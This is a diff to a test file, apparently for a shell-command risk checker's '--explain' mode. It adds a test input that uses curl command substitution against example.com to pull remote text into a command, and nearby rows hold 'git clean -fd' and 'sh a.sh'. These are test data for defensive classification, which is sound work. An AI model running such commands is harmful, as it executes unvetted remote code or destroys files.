@@ -73,6 +73,12 @@ const ROWS: [string[], number, RegExp, RegExp][] = [
     / {2}sh a\.sh\n {2}\(what comes from somewhere else\)\n {4}would run code that is not in the command\n/,
     /^$/,
   ],
+  [
+    ["check", "--explain", "$A$B ls; $(curl -s https://example.com/a)$(curl -s https://example.com/b)"],
+    1,
+    /^(?!.+count as: Download)/s,
+    /^$/,
+  ],
   [["check", "--explain", "git clean -fd"], 1, /git clean -fd\n {4}would count as: \w/, /^$/],
   [["check", "--explain", "$(cat name) x"], 0, /would read name\n.+\n {2}\(part of it only a run could tell;/, /^$/],
   [
